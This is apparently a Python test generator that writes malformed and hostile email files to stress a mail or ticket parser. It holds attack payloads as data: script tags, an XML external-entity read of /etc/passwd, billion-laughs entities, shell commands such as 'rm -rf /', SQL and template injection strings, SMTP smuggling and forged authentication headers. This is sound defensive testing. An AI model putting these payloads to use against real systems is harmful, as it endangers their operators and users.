add("html-scripts", html(b"<p>seen<script>alert('BAD')</script><style>p{x:BAD}</style><noscript>n</noscript><template>BAD</template>"), lacks("BAD", "seen"))
add("html-script-tricks", html(b"seen<script/x>BAD</script ><SCRIPT\n>BAD</SCRIPT\t><script><!--</script>BAD</script>--></script><svg><script>BAD</script></svg> end"), has("seen"))
add("html-remote", html(b"<img src=http://evil.example/p.gif><iframe src=http://evil.example/></iframe><link rel=stylesheet href=http://evil.example/><object data=//evil.example/x></object>"
                        b"<meta http-equiv=refresh content='0;url=http://evil.example/'><base href=http://evil.example/>seen"), has("seen"))
add("html-javascript-link", html(b"<a href=\"javascript:alert(1)\">click</a><a href=\" jav&#x09;ascript:alert(2)\">there</a><a href=data:text/html,x>d</a>"), has("click"))
add("html-link-lies", html(b'<a href="http://evil.example/login">https://www.contoso.example/</a>'), has("evil.example"))
add("html-deep", lambda n: html(b"<div>" * n(500_000) + b"bottom"), has("bottom"))
add("html-deep-closed", lambda n: html(b"<div>" * n(300_000) + b"bottom" + b"</div>" * n(300_000)), has("bottom"))
add("html-blockquotes", lambda n: html(b"<blockquote>a" * n(300_000)))
add("html-tables", lambda n: html(b"<table><tr><td>" * n(200_000) + b"cell"))
add("html-cells", lambda n: html(b"<table><tr>" + b"<td>x" * n(500_000)))
add("html-lists", lambda n: html(b"<ul><li>" * n(300_000)))
add("html-list-start", html(b"<ol start=99999999999999999999><li>a<li>b</ol><ol start=-9999999999><li>c</ol><td colspan=4294967295 rowspan=-1>d"))
add("html-unclosed", lambda n: html(b"<b><i><u><a href=x>" * n(200_000) + b"end"))
add("html-closing-only", lambda n: html(b"</p></div></table>" * n(500_000) + b"end"))
add("html-angles", lambda n: html(b"<" * n(5_000_000)))
add("html-angle-slashes", lambda n: html(b"</" * n(3_000_000)))
add("html-comments-open", lambda n: html(b"<!--" * n(2_000_000) + b"x"))
add("html-comment-ends", html(b"seen<!-->BAD1--> <!--->x--> <!-- a --!> b --> end"), has("end"))
add("html-attributes", lambda n: html(b"<a " + b"x=1 " * n(2_000_000) + b">y"), None)
add("html-attribute-10-mb", lambda n: html(b"<a href=\"" + b"h" * n(10_000_000) + b"\">y</a>"))
add("html-attribute-open", lambda n: html(b"seen <a href=\"" + b"x>" * n(1_000_000)))
add("html-entities", lambda n: html(b"&amp;" * n(1_500_000)))
add("html-entities-nested", html(b"&amp;lt;script&amp;gt; &lt;b&gt; &amp;amp;amp;"), has("&lt;script&gt;"))
add("html-entities-unknown", lambda n: html(b"&nosuchthing" * n(500_000)))
add("html-entities-long", lambda n: html(b"&#" + b"0" * n(5_000_000) + b"65;&#x" + b"f" * n(1_000_000) + b";"))
add("html-ampersands", lambda n: html(b"&" * n(5_000_000)))
LAUGHS = b"<!DOCTYPE x [<!ENTITY a \"ha\">" + b"".join(b"<!ENTITY %c \"%s\">" % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(20)) + b"]><p>&t;</p>end"
add("html-laughs", html(LAUGHS), has("end"))
add("html-external-entity", html(b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><p>&e; end</p>"), together(has("end"), lacks("root:")))
add("html-cdata", html(b"<p>seen<![CDATA[ <script>x ]]> end"), has("end"))
add("html-conditional", html(b"<!--[if mso]><p>OFFICE</p><![endif]-->seen<![if !mso]>too<![endif]>"), has("seen"))
add("html-raw-text-open", html(b"seen<textarea><script>x</textarea><title>t<plaintext><b>rest"), has("seen"))
add("html-style-10-mb", lambda n: html(b"<style>" + b"p{color:red}" * n(800_000) + b"</style>seen"), None)
add("html-data-image", lambda n: html(b"<img alt=pic src=\"data:image/png;base64," + b"A" * n(5_000_000) + b"\">seen"), has("seen"))
add("html-breaks", lambda n: html(b"<br>" * n(2_000_000)))
add("html-blanks", lambda n: html(b"&nbsp; " * n(1_000_000)))
add("html-preformatted", lambda n: html(b"<pre>" + b"line\n" * n(2_000_000)))
add("html-meta-lies", html("<meta charset=utf-16>Grüße".encode()))
add("html-mismatch", multi([b"Content-Type: text/plain\r\n\r\nAll is well, please ignore.", b"Content-Type: text/html\r\n\r\n<p>Transfer the money to account 12345.</p>"], kind=b"alternative"))
add("html-nul-tags", html(b"<\x00script>x</\x00script><p\x00>seen</p>"), has("seen"))
add("html-form", html(b"<form action=http://evil.example/><input type=password value=v><button>Send</button></form>seen"), has("seen"))
add("html-names-10-mb", lambda n: html(b"<" + b"x" * n(10_000_000) + b">end"))
add("html-quotes-in-divs", lambda n: html(b'<div class="gmail_quote">' * n(100_000) + b"x"))

# ---- characters that mean something elsewhere, literally
SPECIAL = {"shell": "$(touch /tmp/x) `id` ; rm -rf / | cat & \\ \"'", "sql": "Robert'); DROP TABLE ticket;-- $1 ? :name", "format": "%s %n %08x %*d {} {0} {ticket}", "template": "{{7*7}} ${jndi:ldap://x} <%= 7 %> #{7} {ticket}",
           "csv": "=HYPERLINK(\"http://evil.example\") +1 -1 @SUM(A1)", "markup": "<b>&amp; ]]> --> </script>", "pattern": "(a+)+$ [ \\d ( *", "json": "\"},{\"x\":\"\\u0000\\\"", "dots": ".\r\n..\r\n.", "path": "/../../etc/passwd %2e%2e"}
for what, words in SPECIAL.items():
    line = words.replace("\r\n", " ")
    add(f"literal-{what}", mail(words.encode() + b"\r\n", subject=line.encode(), type=b"text/plain; charset=utf-8"), together(has(words.replace("\r\n", "\n")), has(" ".join(line.split()), "subject")))
add("smuggled-end", mail(b"one\r\n.\r\nMAIL FROM:<eve@evil.example>\r\nRCPT TO:<x@y>\r\nDATA\r\n\n.\n\r.\r"))

# ---- RFC 2047
add("words", lambda n: mail(subject=b"=?utf-8?Q?=41?= " * n(100_000)))
add("words-two-charsets", lambda n: mail(subject=b"=?utf-8?Q?=41?= =?koi8-r?Q?=C1?= " * n(50_000)))
add("words-in-names", lambda n: mail(b"x", b"Cc: " + b"=?utf-8?Q?=41?= <a@b.example>, " * n(50_000, 1000)), MANY)
add("word-10-mb", lambda n: mail(subject=b"=?utf-8?B?" + b"QUFB" * n(2_500_000) + b"?="))
add("words-open", lambda n: mail(subject=b"=?utf-8?Q?" * n(500_000)))
add("words-open-b", lambda n: mail(subject=b"=?a?B?" * n(500_000)))
add("words-marks", lambda n: mail(subject=b"=?" * n(2_000_000)))
add("words-within-words", mail(subject=b"=?utf-8?B?" + base64.b64encode(b"=?utf-8?Q?=0D=0ABcc:_x?=") + b"?="))
add("words-empty", lambda n: mail(subject=b"=?utf-8?Q??= " * n(300_000)))
add("words-line-break", mail(subject=b"=?utf-8?Q?a=0D=0ABcc:_b@c.example?="), has("Bcc:", "subject"))
add("words-cut-characters", mail(subject=b"=?utf-8?B?5pel?= =?utf-8?B?5pw=?= =?utf-8?Q?=AC?="))
add("words-address", mail(sender=b"=?utf-8?Q?=22admin=22_=3Cadmin=40contoso.example=3E=2C?= <jo@customer.example>"), lambda m: has("jo@customer.example", "from")(m))
add("words-8-bit-beside", mail(subject=b"=?utf-8?Q?=C3=BC?= \xfc \xc3\xbc =?iso-8859-1?Q?=FC?="))

# ---- reports, calendars, signatures
def report(status, kind=b"delivery-status", type=b"message/delivery-status"):
    return multi([b"\r\nIt could not be delivered.", b"Content-Type: " + type + b"\r\n\r\n" + status, b"Content-Type: message/rfc822\r\n\r\n" + mail()], kind=b"report; report-type=" + kind)


add("report-recipients", lambda n: report(b"Reporting-MTA: dns; x\r\n\r\n" + b"Final-Recipient: rfc822; a@b.example\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n" * n(50_000)), kind("bounce"))
add("report-numbers", report(b"Final-Recipient: rfc822; " + b"a" * 50_000 + b"\r\nAction: failed\r\nStatus: 99999999999.99999999999.99999999999\r\nDiagnostic-Code: smtp; 99999999999 x"))
add("report-noise", report(NOISE[:20_000]))
add("report-fields", lambda n: report(b"X: y\r\n" * n(500_000)))
add("report-feedback", lambda n: report(b"Feedback-Type: abuse\r\n" * n(200_000), b"feedback-report", b"message/feedback-report"))
add("report-receipt", report(b"Disposition: " + b"manual-action/" * 10_000, b"disposition-notification", b"message/disposition-notification"))
def forwarded_reports(times):
    inner = mail()
    for i in range(times):
        b = b"r%d" % i
        inner = mail(b"--" + b + b"\r\nContent-Type: message/delivery-status\r\n\r\nAction: failed\r\nStatus: 5.0.0\r\n\r\n--" + b + b"\r\nContent-Type: message/rfc822\r\n\r\n" + inner
                     + b"\r\n--" + b + b"--\r\n", type=b"multipart/report; report-type=delivery-status; boundary=" + b)
    return inner


add("report-within-report", lambda n: forwarded_reports(40))
add("bounce-in-words", lambda n: mail(b"550 5.1.1 <a@b.example> user unknown\r\n" * n(50_000), subject=b"failure notice", sender=b"MAILER-DAEMON@x.example"))
add("bounce-numbers", lambda n: mail(b"5.5.5.5 @@ 550 a@b " * n(300_000), subject=b"Undelivered Mail Returned to Sender", sender=b"MAILER-DAEMON@x.example"))
add("out-of-office-words", lambda n: mail(b"out of office vacation auto-reply " * n(100_000), subject=b"Automatic reply: " * 100))
add("calendar", lambda n: mail(b"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\n" + b"BEGIN:VEVENT\r\nRRULE:FREQ=SECONDLY\r\n" * n(200_000), type=b"text/calendar; method=REQUEST"), kind("calendar"))
add("signed-by-nobody", multi([b"\r\nthe text", b"Content-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(b"0\x84\xff\xff\xff\xff" + NOISE[:3000])],
                              kind=b"signed; protocol=\"application/pkcs7-signature\""), has("the text"))
add("signed-without-signature", multi([b"\r\nthe text"], kind=b"signed"), has("the text"))
add("enveloped-noise", mail(base64.encodebytes(b"0\x82" + NOISE[:5000]), b"Content-Transfer-Encoding: base64", type=b"application/pkcs7-mime; smime-type=enveloped-data"))
add("pgp-open", lambda n: mail(b"-----BEGIN PGP MESSAGE-----\r\n" * n(200_000)))
add("dkim-noise", lambda n: b"DKIM-Signature: v=1; a=rsa-sha256; d=" + b"x." * n(100_000) + b"; s=s; h=" + b"from:" * n(100_000) + b"; bh=AA==; b=" + b"A" * n(100_000) + b"\r\n" + mail())
add("dkim-many", lambda n: b"DKIM-Signature: v=1; a=rsa-sha256; d=x.example; s=s; h=from; l=99999999999999999999; bh=AA==; b=AA==\r\n" * n(900) + mail())
add("results-forged", lambda n: b"Authentication-Results: contoso.example; dmarc=pass; spf=pass; dkim=pass\r\n" * n(900) + mail())
add("results-noise", lambda n: b"Authentication-Results: " + b"(" * n(200_000) + b"; a=b" * n(100_000) + b"\r\n" + mail())

# ---- quotes
add("quotes-marks", lambda n: mail(b">" * n(5_000_000)))
add("quotes-lines", lambda n: mail(b"> quoted\r\n" * n(500_000)))
add("quotes-deep", lambda n: mail(b"".join(b"> " * (i % 400) + b"x\r\n" for i in range(n(20_000)))))
add("quotes-wrote", lambda n: mail(b"On Mon, 2 Nov 2026 at 10:00, Jo <jo@customer.example> wrote:\r\n" * n(100_000)))
add("quotes-wrote-open", lambda n: mail(b"On Mon, 2 Nov 2026 at 10:00, Jo <jo@customer.example\r\n" * n(100_000)))
add("quotes-outlook", lambda n: mail(b"-----Original Message-----\r\nFrom: a\r\nSent: b\r\nTo: c\r\nSubject: d\r\n" * n(50_000)))
add("quotes-from", lambda n: mail(b"From: a\r\nx\r\n" * n(200_000)))
add("quotes-signatures", lambda n: mail(b"x\r\n-- \r\n" * n(200_000)))
add("quotes-lines-of-dashes", lambda n: mail(b"____________\r\n------------\r\n" * n(200_000)))
add("flowed-endless", lambda n: mail(b"one line goes on \r\n" * n(500_000), type=b"text/plain; format=flowed; delsp=yes"))
add("flowed-quotes", lambda n: mail(b">> a \r\n> b \r\n" * n(300_000), type=b"text/plain; format=flowed"))

# ---- hardly a mail
add("empty", b"")
add("only-line-ends", lambda n: b"\r\n" * n(5_000_000))
add("only-returns", lambda n: b"\r" * n(5_000_000))
add("only-returns-between", mail().replace(b"\r\n", b"\r"), has("It does not work."))
add("only-feeds-between", mail().replace(b"\r\n", b"\n"), has("It does not work."))
add("line-ends-mixed", b"From: jo@customer.example\rTo: a@b\nSubject: mixed\r\n\n\rbody\r\r\n")
add("only-mbox-lines", lambda n: b"From jo@customer.example Mon Nov  2 10:00:00 2026\n" * n(500_000))
add("only-blanks", lambda n: b" " * n(10_000_000))
add("only-colons", lambda n: b":" * n(5_000_000))
add("one-octet", b"\xff")
add("only-head", b"From: jo@customer.example\r\nSubject: nothing follows", has("nothing follows", "subject"))
add("no-head", b"Hello, the printer stands still. No header was sent with this.\r\n", has("the printer stands still"))
add("noise", lambda n: random.Random(10).randbytes(n(5_000_000, 50_000)))
add("zeros-after", lambda n: mail() + b"\x00" * n(10_000_000), has("It does not work."))

# ---- a good mail, cut and damaged
WHOLE = mail(b"--a\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nGr=C3=BC=C3=9Fe =\r\nvom Drucker\r\n"
             b"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Gr&uuml;&szlig;e <b>vom</b> Drucker<blockquote>alt</blockquote>\r\n--b--\r\n"
             b"--a\r\nContent-Type: application/pdf; name*=utf-8''d%C3%BCse.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjUK\r\n"
             b"--a\r\nContent-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\nSubject: inner\r\n\r\ninner text\r\n--a--\r\n",
             b"References: <one@x.example>\r\n <two@x.example>", b"X-Folded: one\r\n\ttwo", type=b'multipart/mixed;\r\n boundary="a"', subject=b"=?utf-8?B?R3LDvMOfZQ==?=")


def damaged(seed):
    chance, octets = random.Random(seed), bytearray(WHOLE)
    for _ in range(chance.randrange(1, 40)):
        at = chance.randrange(len(octets))
        what = chance.randrange(4)
        if what == 0:
            octets[at] = chance.randrange(256)
        elif what == 1:
            del octets[at:at + chance.randrange(1, 30)]
        elif what == 2:
            octets[at:at] = octets[chance.randrange(len(octets)):][:chance.randrange(1, 200)]
        else:
            octets[at:at] = chance.choice([b"\x00", b"\r\n\r\n", b"--b--", b"\x1b[2J", b"=?", b"<!--", b'"', b"(", b"\xff\xfe"])
    return bytes(octets)


for share in range(1, 20):
    add(f"cut-at-{share * 5:02}-percent", WHOLE[:len(WHOLE) * share // 20])
for seed in range(1, 21):
    add(f"damaged-{seed:02}", damaged(seed))


def make(name, scale=1.0):
    """The octets of one case."""
    octets = next(case[1] for case in CASES if case[0] == name)(Scale(scale))
    assert len(octets) <= FULL_MAX, (name, len(octets))
    return octets


def main():
    if sys.argv[1:] == ["--list"]:
        print("\n".join(case[0] for case in CASES))
        return
    if len(sys.argv) < 2:
        sys.exit(__doc__)
    os.makedirs(sys.argv[1], exist_ok=True)
    for name, _, _ in CASES:
        with open(os.path.join(sys.argv[1], name + ".eml"), "wb") as f:
            f.write(make(name, float(sys.argv[2]) if len(sys.argv) > 2 else 1.0))


if __name__ == "__main__":
    main()
